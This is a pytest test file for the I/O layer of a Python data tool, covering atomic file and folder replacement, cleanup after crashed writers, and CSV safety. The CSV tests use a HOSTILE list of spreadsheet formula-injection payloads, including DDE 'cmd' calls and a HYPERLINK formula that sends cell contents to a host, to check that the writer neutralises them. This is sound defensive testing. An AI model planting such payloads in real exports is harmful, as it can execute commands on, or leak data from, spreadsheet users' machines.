import os

import pandas as pd
import pytest

from fanpin.exceptions import OutputError
from fanpin.io import atomic_path, read_table, write_table


def test_interrupted_write_keeps_previous_file(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_path(target) as tmp:
            tmp.write_text("half")
            raise RuntimeError("killed")
    assert target.read_text() == "old"
    assert os.listdir(tmp_path) == ["out.csv"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".xlsx"])
def test_round_trip(tmp_path, suffix):
    df = pd.DataFrame({"household_id": ["007", "8"], "risk": [0.5, 0.25]})
    path = write_table(df, tmp_path / f"t{suffix}")
    back = read_table(path, known_columns=["household_id", "risk"])
    assert back["household_id"].astype(str).tolist() == ["007", "8"]


def test_unwritable_folder(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(OutputError, match="Cannot write"):
        write_table(pd.DataFrame({"a": [1]}), blocker / "sub" / "t.csv")


def test_stale_temporary_files_of_dead_writers_are_removed(tmp_path):
    import subprocess
    import sys

    target = tmp_path / "out.csv"
    # A writer that died: its pid no longer runs.
    proc = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    dead = tmp_path / f".out.csv.{proc.stdout.strip()}.abc.tmp"
    dead.write_text("half")
    alive = tmp_path / f".out.csv.{os.getpid()}.xyz.tmp"  # a concurrent writer
    alive.write_text("busy")
    write_table(pd.DataFrame({"a": [1]}), target)
    assert not dead.exists()
    assert alive.exists()
    assert target.exists()


# -- CSV cells that a spreadsheet would run, and whole folders ---------------------
import json  # noqa: E402
import warnings  # noqa: E402

import pytest  # noqa: E402

from fanpin.exceptions import DataRepairWarning  # noqa: E402
from fanpin.io import (  # noqa: E402
    TableAppender,
    check_apart,
    recover_directory,
    replace_directory,
)
from fanpin.io._write import MANIFEST  # noqa: E402

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "丙村",
]


def _cells(path):
    return pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)


@pytest.mark.parametrize("how", ["write_table", "appender"])
def test_csv_cells_are_never_formulas(tmp_path, how):
    df = pd.DataFrame({"village": HOSTILE, "income": [-1200.5] * len(HOSTILE),
                       "n": range(-3, len(HOSTILE) - 3)})  # fmt: skip
    p = tmp_path / "out.csv"
    if how == "write_table":
        write_table(df, p)
    else:
        with TableAppender(p) as w:
            w.write(df.iloc[:3])
            w.write(df.iloc[3:])
    got = _cells(p)
    for value in got["village"]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert got["village"].tolist()[:4] == ["'" + v for v in HOSTILE[:4]]
    assert got["village"].iloc[-1] == "丙村"
    # numbers stay numbers: a negative income is not text-prefixed
    assert got["income"].tolist() == ["-1200.5"] * len(HOSTILE)
    assert got["n"].iloc[0] == "-3"


def test_parquet_keeps_text_but_masks_and_cleans(tmp_path):
    df = pd.DataFrame({"village": ["=1+1", "丙村13987654321", "a\x0bb"],
                       "household_id": ["13987654321", "2", "3"]})  # fmt: skip
    with pytest.warns(DataRepairWarning) as rec:
        write_table(df, tmp_path / "o.parquet")
    texts = " ".join(str(w.message) for w in rec)
    assert "'village'" in texts and "13987654321" not in texts
    got = pd.read_parquet(tmp_path / "o.parquet")
    assert got["village"].tolist() == ["=1+1", "丙村###########", "ab"]
    assert got["household_id"].tolist() == ["13987654321", "2", "3"]  # ids kept


def test_replace_directory_swaps_whole(tmp_path):
    out = tmp_path / "alerts"
    with replace_directory(out) as stage:
        (stage / "a.csv").write_text("old", "utf-8")
        (stage / "excel").mkdir()
        (stage / "excel" / "t.xlsx").write_text("old", "utf-8")
    with replace_directory(out) as stage:
        (stage / "a.csv").write_text("new", "utf-8")
    assert sorted(p.name for p in out.rglob("*")) == [MANIFEST, "a.csv"]
    assert json.loads((out / MANIFEST).read_text("utf-8")) == {"files": ["a.csv"]}
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_replace_directory_failure_keeps_old(tmp_path):
    out = tmp_path / "alerts"
    with replace_directory(out) as stage:
        (stage / "a.csv").write_text("old", "utf-8")
    with pytest.raises(RuntimeError), replace_directory(out) as stage:
        (stage / "a.csv").write_text("half", "utf-8")
        raise RuntimeError("killed")
    assert (out / "a.csv").read_text("utf-8") == "old"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_replace_directory_refuses_foreign_files(tmp_path):
    out = tmp_path / "alerts"
    out.mkdir()
    (out / "alerts.csv").write_text("from an older fanpin", "utf-8")
    with replace_directory(out, owned=("alerts.csv",)) as stage:  # accepted
        (stage / "alerts.csv").write_text("new", "utf-8")
    (out / "乙镇-核查结果.xlsx").write_text("a cadre's work", "utf-8")
    with (
        pytest.raises(OutputError, match="fanpin did not write"),
        replace_directory(out),
    ):
        pass
    assert (out / "乙镇-核查结果.xlsx").exists()
    f = tmp_path / "file"
    f.write_text("x", "utf-8")
    with pytest.raises(OutputError, match="is a file"), replace_directory(f):
        pass


@pytest.mark.parametrize("left", ["done+old", "old"])
def test_recover_half_done_swap(tmp_path, left):
    """A writer killed between the two renames of a swap (filesystems without an
    atomic exchange): the next writer puts a whole folder back first."""
    out = tmp_path / "alerts"
    dead = 999_999_999  # no such process
    for kind in left.split("+"):
        d = tmp_path / f".alerts.{dead}.x.{kind}"
        d.mkdir()
        (d / "a.csv").write_text(kind, "utf-8")
    recover_directory(out)
    assert (out / "a.csv").read_text("utf-8") == left.split("+")[0]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_replace_directory_without_atomic_exchange(tmp_path, monkeypatch):
    from fanpin.io import _write

    monkeypatch.setattr(_write, "_exchange", lambda a, b: False)
    out = tmp_path / "alerts"
    for text in ("old", "new"):
        with replace_directory(out) as stage:
            (stage / "a.csv").write_text(text, "utf-8")
    assert (out / "a.csv").read_text("utf-8") == "new"


@pytest.mark.parametrize(
    ("outs", "ins"),
    [
        (["p.csv"], ["p.csv"]),
        (["dir"], ["dir/scored.csv"]),
        (["dir"], ["dir/sub/p.parquet"]),
        (["link.csv"], ["p.csv"]),
    ],
)
def test_output_that_is_or_holds_an_input_is_refused(tmp_path, outs, ins):
    (tmp_path / "dir" / "sub").mkdir(parents=True)
    for name in ("p.csv", "dir/scored.csv", "dir/sub/p.parquet"):
        (tmp_path / name).write_text("x", "utf-8")
    os.link(tmp_path / "p.csv", tmp_path / "link.csv")
    with pytest.raises(OutputError, match="would overwrite the input"):
        check_apart([tmp_path / o for o in outs], [tmp_path / i for i in ins])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        check_apart([tmp_path / "other"], [tmp_path / i for i in ins])
